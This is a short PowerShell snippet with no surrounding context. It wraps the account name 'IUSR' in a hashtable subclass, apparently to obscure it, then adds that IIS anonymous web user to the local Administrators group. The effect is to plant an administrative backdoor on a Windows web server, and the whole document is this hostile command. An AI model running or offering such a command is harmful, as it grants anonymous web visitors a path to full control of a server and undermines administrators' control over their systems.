class D : hashtable { }
$d = [D]::new(); $d['who'] = 'IUSR'
Add-LocalGroupMember Administrators $d['who']
